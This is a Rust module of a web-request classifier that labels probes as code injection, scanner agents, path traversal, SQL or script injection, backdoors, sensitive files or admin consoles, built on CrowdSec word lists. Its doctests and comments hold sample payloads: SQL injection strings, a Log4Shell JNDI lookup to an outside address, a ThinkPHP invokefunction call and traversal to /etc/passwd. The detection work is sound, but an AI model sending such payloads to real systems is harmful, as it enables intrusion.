//! Recognising attack-tool probes: requests for admin interfaces, sensitive files and known
//! backdoors, path traversal and SQL/script injection payloads, and scanner user agents.
//! Word lists are CrowdSec's sec-lists (MIT, `rules/data/sec-lists/`).

use std::borrow::Cow;
use std::sync::OnceLock;

use aho_corasick::AhoCorasick;

const ADMIN: &str = include_str!("../../data/sec-lists/admin_interfaces.txt");
const SENSITIVE: &str = include_str!("../../data/sec-lists/sensitive_data.txt");
const TRAVERSAL: &str = include_str!("../../data/sec-lists/path_traversal.txt");
const SQLI: &str = include_str!("../../data/sec-lists/sqli_probe_patterns.txt");
const XSS: &str = include_str!("../../data/sec-lists/xss_probe_patterns.txt");
const BACKDOORS: &str = include_str!("../../data/sec-lists/backdoors.txt");

mod backup;
mod counterfeit;
mod paths;
mod words;
pub use backup::backup_copy;
use backup::{is_site_dump, is_source_backup};
use paths::{collapse_slashes, percent_decode};
pub(crate) use paths::{decode, normalize_path, path_changes_when_normalized};
pub use paths::{linked, normalized_path, self_referred};
use words::{
    AI_ASSISTANT_FILES, ARCHIVE_EXTENSIONS, BACKUP_SUFFIXES, CODE_INJECTION, CREDENTIAL_DOTFILES,
    EDITOR_UPLOAD_SETTINGS, MORE_TRAVERSAL, REPOSITORY_METADATA, SCANNER_MARKS, SCANNER_PATHS,
    SCANNING_SELF_DESCRIPTION, SURVEY_SELF_DESCRIPTION,
};

/// Injection payloads as they look once percent-decoded (the lists hold the encoded forms).
const DECODED_SQLI: &[&str] = &[
    "' or '1'='1",
    "' or 1=1",
    "\" or 1=1",
    " or 1=1--",
    "union select",
    "union all select",
    "information_schema",
    "sleep(",
    "pg_sleep(",
    "benchmark(",
    "xp_cmdshell",
    "@@version",
];

fn words(list: &str) -> Vec<String> {
    list.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .map(str::to_ascii_lowercase)
        .collect()
}

struct Lists {
    /// Admin consoles as path prefixes, without a trailing slash (`/phpmyadmin`).
    admin: foldhash::HashSet<String>,
    /// Sensitive file names (`.env`, `composer.json`): a last segment, or for dot-names any
    /// segment (`/.git/...`).
    sensitive_names: foldhash::HashSet<String>,
    /// Extensions (`.sql.gz`, `.bak`): suffixes of the last segment.
    sensitive_extensions: Vec<String>,
    /// Sensitive multi-segment paths, `/`-prefixed (`/.git/config`), all found in one pass:
    /// a match counts at the end of the path or before a `/` (a directory inside the path).
    sensitive_paths: AhoCorasick,
    backdoors: foldhash::HashSet<String>,
    /// Path traversal, SQL, script and code injection payloads and scanners' marks in one
    /// automaton (one pass per text), with each pattern's class bit.
    injections: AhoCorasick,
    injection_bits: Vec<u8>,
    /// Every word the path classes look for (injections, backdoors, sensitive names and paths,
    /// consoles) in one automaton: each class needs one of them inside the path, raw or
    /// decoded, so a path containing none is ordinary after a single pass.
    any_path_word: AhoCorasick,
    scanners: AhoCorasick,
}

use super::case_insensitive_matcher as automaton;

/// Class bits of [`Lists::injections`], highest priority first.
const TRAVERSAL_BIT: u8 = 1;
const SQLI_BIT: u8 = 2;
const XSS_BIT: u8 = 4;
const CODE_BIT: u8 = 8;

impl Lists {
    /// The injection classes whose payloads occur in `text`.
    fn injection_classes(&self, text: &str) -> u8 {
        self.injections
            .find_overlapping_iter(text)
            .fold(0, |bits, m| {
                bits | self
                    .injection_bits
                    .get(m.pattern().as_usize())
                    .copied()
                    .unwrap_or(0)
            })
    }

    /// A console as the (lower-cased) path's prefix, followed by the end, `/`, `.` or `?`:
    /// the prefixes ending where such a byte starts (a handful) are looked up, not every
    /// console compared. Or a release folder of a console shipped as an archive
    /// ([`release_folder`]).
    fn is_admin(&self, lower: &str) -> bool {
        lower
            .bytes()
            .enumerate()
            .filter(|(_, b)| matches!(b, b'/' | b'.' | b'?'))
            .map(|(i, _)| i)
            .chain(std::iter::once(lower.len()))
            .any(|end| self.admin.contains(&lower[..end]))
            || release_folder(lower)
    }

    /// A sensitive multi-segment path at the end of the (lower-cased) path or as a directory
    /// inside it, in one pass of the automaton.
    fn in_sensitive_path(&self, lower: &str) -> bool {
        lower.contains('/')
            && self
                .sensitive_paths
                .find_overlapping_iter(lower)
                .any(|m| matches!(lower.as_bytes().get(m.end()), None | Some(b'/')))
    }
}

/// Consoles shipped as an archive that unpacks into a folder named with its release
/// (`phpMyAdmin-4.9.0-all-languages/`), which admins keep or rename (`phpmyadmin4.8.5/`) and
/// scanners' word lists walk version by version (heldout140: 61 of them in 30 seconds).
const RELEASE_NAMED: &[&str] = &["/phpmyadmin"];

/// Whether the (lower-cased) path is inside a release folder of a [`RELEASE_NAMED`] console:
/// its name, then a version (a digit, after a `-` or `_` or not), then a folder (`/`). Only
/// those: `/manager-2/` (WordPress' second page of that name), `/admin-2fa/` and
/// `/admin-2024-report.pdf` are a site's own.
fn release_folder(lower: &str) -> bool {
    RELEASE_NAMED.iter().any(|name| {
        lower.strip_prefix(name).is_some_and(|rest| {
            let rest = rest.strip_prefix(['-', '_']).unwrap_or(rest);
            rest.starts_with(|c: char| c.is_ascii_digit()) && rest.contains('/')
        })
    })
}

/// Builds the lists now (see [`crate::functions::prepare_lists`]).
pub(super) fn prepare() {
    lists();
}

fn lists() -> &'static Lists {
    static L: OnceLock<Lists> = OnceLock::new();
    L.get_or_init(|| {
        let mut sqli = words(SQLI);
        sqli.extend(DECODED_SQLI.iter().map(|s| s.to_string()));
        let scanners: Vec<String> = super::ua::ATTACK_TOOLS
            .iter()
            .map(|s| s.to_string())
            .collect();
        let mut sensitive_names = foldhash::HashSet::default();
        let mut injections = Vec::new();
        let mut injection_bits = Vec::new();
        let mut traversal = words(TRAVERSAL);
        traversal.extend(MORE_TRAVERSAL.iter().map(|s| s.to_string()));
        for (list, bit) in [
            (traversal, TRAVERSAL_BIT),
            (sqli, SQLI_BIT),
            (words(XSS), XSS_BIT),
            (
                CODE_INJECTION.iter().map(|w| w.to_string()).collect(),
                CODE_BIT,
            ),
            (
                SCANNER_MARKS.iter().map(|w| w.to_string()).collect(),
                SCANNER_BIT,
            ),
        ] {
            injection_bits.extend(std::iter::repeat_n(bit, list.len()));
            injections.extend(list);
        }
        let mut sensitive_extensions = Vec::new();
        let mut sensitive_paths = Vec::new();
        for w in words(SENSITIVE) {
            if w.contains('/') {
                sensitive_paths.push(format!("/{w}"));
            } else {
                if w.starts_with('.') {
                    sensitive_extensions.push(w.clone());
                }
                sensitive_names.insert(w);
            }
        }
        sensitive_names.extend(
            (CREDENTIAL_DOTFILES.iter())
                .chain(REPOSITORY_METADATA)
                .chain(AI_ASSISTANT_FILES)
                .chain(EDITOR_UPLOAD_SETTINGS)
                .map(|w| w.to_string()),
        );
        let admin: foldhash::HashSet<String> = words(ADMIN)
            .into_iter()
            .map(|w| w.trim_end_matches('/').to_owned())
            .filter(|w| !w.is_empty())
            .collect();
        let backdoors: foldhash::HashSet<String> = words(BACKDOORS).into_iter().collect();
        let path_words: Vec<String> = (injections.iter())
            .chain(&admin)
            .chain(&sensitive_names)
            .chain(&sensitive_paths)
            .chain(&backdoors)
            .cloned()
            // Dotenv files of any framework (`.flaskenv`, `.env.production`): see `is_dotenv`.
            .chain(std::iter::once("env".to_owned()))
            // Backup copies of source files and site dumps: see `backup_copy`.
            .chain(BACKUP_SUFFIXES.iter().flat_map(|s| {
                let dotted = format!(".{s}");
                let other = (*s != "1").then(|| [format!("_{s}"), format!("-{s}")]);
                std::iter::once(dotted).chain(other.into_iter().flatten())
            }))
            .chain(ARCHIVE_EXTENSIONS.iter().map(|s| format!(".{s}")))
            .chain(std::iter::once("~".to_owned()))
            .collect();
        Lists {
            any_path_word: super::case_insensitive_dfa(&path_words),
            admin,
            sensitive_names,
            sensitive_extensions,
            // Standard match kind (the matcher's): overlapping search.
            sensitive_paths: automaton(&sensitive_paths),
            backdoors,
            // Standard match kind: overlapping search reports every class present.
            injections: super::case_insensitive_dfa(&injections),
            injection_bits,
            scanners: automaton(&scanners),
        }
    })
}

/// A dotenv file, whatever the framework calls it: a dot-name starting `.env` (`.env.production`,
/// `.envrc`) or ending `env` (`.flaskenv`, `.venv`). They hold the application's secrets and
/// are never linked from a page; the word list names only some.
fn is_dotenv(segment: &str) -> bool {
    segment.len() > 1
        && segment.starts_with('.')
        && (segment.starts_with(".env") || segment.ends_with("env"))
}

/// What a user agent says of its sender: [`SCANNER_BIT`] when it names an attack tool, is no
/// browser's and says it scans or measures the internet (see
/// [`words::SCANNING_SELF_DESCRIPTION`]), or misspells `Mozilla` while posing as a browser (a
/// counterfeit: [`counterfeit::counterfeit_browser`]; a declared bot with the typo, such as a
/// university crawler's `Mozzila/5.0 (compatible; Sonic/1.0; +URL)`, says what it is);
/// [`SURVEY_BIT`] when it is no browser's and says it surveys web servers
/// ([`words::SURVEY_SELF_DESCRIPTION`]); remembered per thread (bounded, see
/// [`super::ua::remember`]).
fn scanner_bits(ua: &str) -> u8 {
    thread_local! {
        static SEEN: super::ua::Remembered<u8> = super::ua::remembered();
    }
    super::ua::remember(&SEEN, ua, |ua| {
        let not_browser = || super::ua::ua_class(ua) != super::UaClass::Browser;
        if lists().scanners.is_match(ua)
            || misspelt_browser(ua)
            || (scanning_self_description().is_some_and(|r| r.is_match(ua)) && not_browser())
        {
            SCANNER_BIT
        } else if survey_self_description().is_some_and(|r| r.is_match(ua)) && not_browser() {
            SURVEY_BIT
        } else {
            0
        }
    })
}

/// Whether the agent misspells `Mozilla` while posing as a browser: a declared bot with the
/// typo says what it is.
fn misspelt_browser(ua: &str) -> bool {
    counterfeit::counterfeit_browser(ua) && !counterfeit::declared_bot(ua)
}

/// Whether a user agent poses as a browser that no browser could be: `Mozilla` misspelt (not
/// by a declared bot), a browser's agent with every space taken out, or one wrapped in quotes.
/// Spam tools rotating agents from a list send such counterfeits; a browser never does.
///
/// ```
/// use gatewatch_rules::functions::counterfeit_agent;
/// assert!(counterfeit_agent("Mozilla/5.0(WindowsNT10.0;Win64;x64;rv:79.0)Gecko/20100101Firefox/79.0"));
/// assert!(counterfeit_agent("Mozila/5.0 (Windows NT 10.0; Win64; x64)"));
/// assert!(!counterfeit_agent("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:79.0) Gecko/20100101 Firefox/79.0"));
/// assert!(!counterfeit_agent("Mozzila/5.0 (compatible; Sonic/1.0; +https://sonic.example/bot)"));
/// assert!(counterfeit_agent(r"\x22Mozilla/5.0"));
/// assert!(!counterfeit_agent(r"\x22Mozilla/5.0 (compatible; AcmeSync/2.1; +https://acme.example/bot)\x22"));
/// ```
pub fn counterfeit_agent(ua: &str) -> bool {
    counterfeit::spaceless_browser(ua) || misspelt_browser(ua) || counterfeit::quoted_browser(ua)
}

/// A fixed pattern of this module, compiled once into `cell`; `None` (logged, naming `what`)
/// should it ever fail to compile (the tests of what it matches compile it).
fn compiled(
    cell: &'static OnceLock<Option<regex::Regex>>,
    pattern: &str,
    what: &str,
) -> Option<&'static regex::Regex> {
    cell.get_or_init(|| {
        regex::Regex::new(pattern)
            .map_err(|e| tracing::error!(error = %e, "the {what} pattern does not compile"))
            .ok()
    })
    .as_ref()
}

/// [`words::SURVEY_SELF_DESCRIPTION`], compiled once.
fn survey_self_description() -> Option<&'static regex::Regex> {
    static R: OnceLock<Option<regex::Regex>> = OnceLock::new();
    compiled(&R, SURVEY_SELF_DESCRIPTION, "surveys' self-description")
}

/// [`words::SCANNING_SELF_DESCRIPTION`], compiled once.
fn scanning_self_description() -> Option<&'static regex::Regex> {
    static R: OnceLock<Option<regex::Regex>> = OnceLock::new();
    compiled(&R, SCANNING_SELF_DESCRIPTION, "scanners' self-description")
}

/// What kind of probe a request is, or `None` for an ordinary request. Checked in this order:
/// `code-injection` (in the path, query or a user agent carrying `${` or `() {`),
/// `scanner-agent` (an attack tool's user agent, a counterfeit `Mozilla`, or a mark scanners
/// leave in the URL),
/// `path-traversal`, `sql-injection`, `script-injection`, `backdoor`, `sensitive-file`,
/// `admin-interface`.
///
/// ```
/// use gatewatch_rules::functions::probe_class;
/// assert_eq!(probe_class("/.env", None, None), Some("sensitive-file"));
/// assert_eq!(probe_class("/.git/config", None, None), Some("sensitive-file"));
/// assert_eq!(probe_class("/phpmyadmin/index.php", None, None), Some("admin-interface"));
/// assert_eq!(probe_class("/api/v1/files/..%2f..%2fetc%2fpasswd", None, None), Some("path-traversal"));
/// assert_eq!(probe_class("/api/v1/search", Some("q=%27%20OR%201%3D1--"), None), Some("sql-injection"));
/// assert_eq!(probe_class("/", None, Some("sqlmap/1.8#stable")), Some("scanner-agent"));
/// assert_eq!(probe_class("/", None, Some("${jndi:ldap://198.51.100.9/a}")), Some("code-injection"));
/// assert_eq!(probe_class("/index.php", Some("s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array"), None), Some("code-injection"));
/// assert_eq!(probe_class("/api/v1/orders/17", Some("page=2"), Some("Mozilla/5.0")), None);
/// assert_eq!(probe_class("/static/app.js", None, None), None);
/// ```
pub fn probe_class(
    path: &str,
    query: Option<&str>,
    user_agent: Option<&str>,
) -> Option<&'static str> {
    classify(lists(), path, query, user_agent, Shortcut::Taken)
}

/// Whether [`classify`] may answer an ordinary path after one pass of
/// [`Lists::any_path_word`] (always, but for the test that checks the shortcut changes nothing).
#[derive(Clone, Copy, PartialEq)]
enum Shortcut {
    Taken,
    #[cfg(test)]
    Skipped,
}

fn classify(
    l: &Lists,
    path: &str,
    query: Option<&str>,
    user_agent: Option<&str>,
    shortcut: Shortcut,
) -> Option<&'static str> {
    let found = decide(
        path_facts_with(l, path, shortcut),
        query_facts_with(l, query),
        agent_facts_with(l, user_agent),
    );
    class_name(found)
}

/// The classes [`probe_class`] answers, by priority; [`decide`] answers an index into it plus
/// one (0: an ordinary request).
pub(crate) const CLASSES: [&str; 8] = [
    "code-injection",
    "scanner-agent",
    "path-traversal",
    "sql-injection",
    "script-injection",
    "backdoor",
    "sensitive-file",
    "admin-interface",
];

/// Answers of [`decide`]: an index in [`CLASSES`] plus one; 0 for an ordinary request.
mod class {
    pub(super) const CODE_INJECTION: u8 = 1;
    pub(super) const SCANNER_AGENT: u8 = 2;
    pub(super) const PATH_TRAVERSAL: u8 = 3;
    pub(super) const SQL_INJECTION: u8 = 4;
    pub(super) const SCRIPT_INJECTION: u8 = 5;
    pub(super) const BACKDOOR: u8 = 6;
    pub(super) const SENSITIVE_FILE: u8 = 7;
    pub(super) const ADMIN_INTERFACE: u8 = 8;
}

/// The class of an answer of [`decide`].
pub(crate) fn class_name(found: u8) -> Option<&'static str> {
    (found as usize)
        .checked_sub(1)
        .and_then(|i| CLASSES.get(i).copied())
}

/// What a path alone says of a request: its injection classes and the class of the resource
/// it names (backdoor, sensitive file, admin console; 0 for none), both 0 for an ordinary
/// path. `probe_class` is a function of these, of [`query_facts`] and of [`agent_facts`]: a
/// batch's classes are found once per distinct value of each column, not per tuple of them.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct PathFacts {
    injections: u8,
    resource: u8,
    /// The last segment names a server-side script (`setup.cgi`, `x.php`): what runs a
    /// command parameter ([`COMMAND_PARAMETER_BIT`]).
    script: bool,
    /// The path is the site's front door (`/`, `/robots.txt`, `/favicon.ico`): all a web-server
    /// survey reads ([`SURVEY_BIT`]).
    home: bool,
    /// The last segment is `shell` (any case): a path that runs its query as a command, what
    /// cheap DVRs' backdoor is ([`SHELL_WORD_BIT`]).
    shell: bool,
}

/// The facts of a path (see [`PathFacts`]).
pub(crate) fn path_facts(path: &str) -> PathFacts {
    path_facts_with(lists(), path, Shortcut::Taken)
}

/// The injection classes of a query (NULL: none), raw or decoded, a shell command line or an
/// injected command among them.
pub(crate) fn query_facts(query: Option<&str>) -> u8 {
    query_facts_with(lists(), query)
}

/// What a user agent says: code injected (Log4Shell and Shellshock payloads travel in
/// headers) and whether it names an attack tool.
pub(crate) fn agent_facts(user_agent: Option<&str>) -> u8 {
    agent_facts_with(lists(), user_agent)
}

/// A scanner named: set in [`agent_facts`] for a user agent naming an attack tool, and among a
/// path's or query's injection bits for a mark scanners leave in URLs (`words::SCANNER_MARKS`,
/// and the whole paths `words::SCANNER_PATHS`).
const SCANNER_BIT: u8 = 16;
/// A web-server survey (Netcraft's) named in the agent: a census of the server software sites
/// run, reading the front door ([`PathFacts::home`]) once. Asking anything else, such an agent
/// is a scanner's (an attacker may copy it: a declared crawler's exemptions would hide its
/// probes). Set in [`agent_facts`].
const SURVEY_BIT: u8 = 64;
/// A parameter named for a command holds a command line (`cmd=cat /etc/passwd`): code
/// injection in a request for a script file ([`PathFacts::script`]), an ordinary command API
/// elsewhere. Set in [`query_facts`].
const COMMAND_PARAMETER_BIT: u8 = 32;
/// The query opens with a command (`busybox`, `busybox MIRAI`): code injection in a request to
/// a path named for a shell ([`PathFacts::shell`], a DVR's `/shell` backdoor), a page name or a
/// flag elsewhere. Set in [`query_facts`].
const SHELL_WORD_BIT: u8 = 128;

/// The class of a request from its columns' facts, by priority: code injected anywhere (or a
/// command parameter sent to a script), an attack tool's agent, traversal, SQL and script injection in the path or query, then what
/// the path names. 0 for an ordinary request, else the index in [`CLASSES`] plus one.
pub(crate) fn decide(path: PathFacts, query: u8, agent: u8) -> u8 {
    let found = path.injections | query | (agent & CODE_BIT);
    if found & CODE_BIT != 0
        || (path.script && query & COMMAND_PARAMETER_BIT != 0)
        || (path.shell && query & SHELL_WORD_BIT != 0)
    {
        return class::CODE_INJECTION;
    }
    if (found | agent) & SCANNER_BIT != 0 || (agent & SURVEY_BIT != 0 && !path.home) {
        return class::SCANNER_AGENT;
    }
    for (bit, class) in [
        (TRAVERSAL_BIT, class::PATH_TRAVERSAL),
        (SQLI_BIT, class::SQL_INJECTION),
        (XSS_BIT, class::SCRIPT_INJECTION),
    ] {
        if found & bit != 0 {
            return class;
        }
    }
    path.resource
}

fn path_facts_with(l: &Lists, path: &str, shortcut: Shortcut) -> PathFacts {
    let decoded_path = percent_decode(path);
    // The decoded form is searched only when decoding changed something.
    let decoded_path_differs = matches!(decoded_path, Cow::Owned(_));
    // Most paths hold none of the words any path class needs.
    let ordinary_path = shortcut == Shortcut::Taken
        && !l.any_path_word.is_match(path)
        && !(decoded_path_differs && l.any_path_word.is_match(decoded_path.as_ref()));
    let script = is_script(decoded_path.as_ref());
    let home = matches!(path, "/" | "/robots.txt" | "/favicon.ico");
    let shell = (decoded_path.rsplit('/').next()).is_some_and(|s| s.eq_ignore_ascii_case("shell"));
    if SCANNER_PATHS.contains(&path) {
        return PathFacts {
            injections: SCANNER_BIT,
            resource: 0,
            script,
            home,
            shell,
        };
    }
    if ordinary_path {
        return PathFacts {
            injections: 0,
            resource: 0,
            script,
            home,
            shell,
        };
    }
    let mut injections = l.injection_classes(path);
    if decoded_path_differs {
        injections |= l.injection_classes(decoded_path.as_ref());
    }
    PathFacts {
        injections,
        resource: resource_class(l, decoded_path.as_ref()),
        script,
        home,
        shell,
    }
}

/// Extensions of server-side scripts: CGI programs, PHP, ASP, JSP, Perl and shell.
const SCRIPT_EXTENSIONS: &[&str] = &["cgi", "php", "asp", "aspx", "jsp", "pl", "sh"];

/// Whether a (decoded) path's last segment names a server-side script, by its
/// [`url_extension`](super::url_extension) (lower case, a `;jsessionid=` left out).
fn is_script(path: &str) -> bool {
    super::url_extension(path).is_some_and(|ext| SCRIPT_EXTENSIONS.contains(&ext.as_ref()))
}

fn query_facts_with(l: &Lists, query: Option<&str>) -> u8 {
    let Some(query) = query else {
        return 0;
    };
    let mut found = l.injection_classes(query);
    let decoded = percent_decode(query);
    if matches!(decoded, Cow::Owned(_)) {
        found |= l.injection_classes(decoded.as_ref());
    }
    // The query is itself a shell command line (`/shell?uname -a`, router exploits), or one of
    // its values injects one (`poller_id=;touch x`).
    let commands = super::shell::query_commands(&decoded);
    if commands.injected || super::shell::is_command_line(&decoded) {
        found |= CODE_BIT;
    }
    if commands.command_parameter {
        found |= COMMAND_PARAMETER_BIT;
    }
    if super::shell::starts_with_command(&decoded) {
        found |= SHELL_WORD_BIT;
    }
    found
}

fn agent_facts_with(l: &Lists, user_agent: Option<&str>) -> u8 {
    let Some(ua) = user_agent else {
        return 0;
    };
    // Code only, when it has the opening of a payload; one SIMD scan for `{` first: user
    // agents almost never have one.
    let code_opening =
        memchr::memchr(b'{', ua.as_bytes()).is_some() && (ua.contains("${") || ua.contains("() {"));
    let mut found = 0;
    if code_opening {
        found |= l.injection_classes(ua) & CODE_BIT;
    }
    found |= scanner_bits(ua);
    found
}

/// The class of the resource a (percent-decoded) path names: a backdoor, a sensitive file, an
/// admin console (see [`class`]), or 0 for none.
fn resource_class(l: &Lists, decoded_path: &str) -> u8 {
    let mut lower: Cow<'_, str> = if decoded_path.bytes().any(|b| b.is_ascii_uppercase()) {
        Cow::Owned(decoded_path.to_ascii_lowercase())
    } else {
        Cow::Borrowed(decoded_path)
    };
    // Scanners that join a base URL ending in `/` with `/phpmyadmin/` ask for `//phpmyadmin/`;
    // servers treat runs of slashes as one, so the names are looked up the same way.
    if lower.contains("//") {
        lower = Cow::Owned(collapse_slashes(&lower));
    }
    let lower = lower.as_ref();
    let last = lower.rsplit('/').next().unwrap_or("");
    if !last.is_empty() && l.backdoors.contains(last) {
        return class::BACKDOOR;
    }
    // A sensitive name as the last segment (or, for `.env`-like names, any segment), an
    // extension such as `.sql.gz` at the end, or a multi-segment path such as `/.git/config`.
    let sensitive = l.sensitive_names.contains(last)
        || (last.contains('.')
            && l.sensitive_extensions
                .iter()
                .any(|e| last.len() > e.len() && last.ends_with(e.as_str())))
        || (lower.contains("/.")
            && lower.split('/').any(|seg| {
                seg.starts_with('.') && (l.sensitive_names.contains(seg) || is_dotenv(seg))
            }))
        || l.in_sensitive_path(lower)
        || is_source_backup(last)
        || is_site_dump(last);
    if sensitive {
        return class::SENSITIVE_FILE;
    }
    if l.is_admin(lower) {
        class::ADMIN_INTERFACE
    } else {
        0
    }
}

#[cfg(test)]
mod agent_tests;
#[cfg(test)]
mod tests;
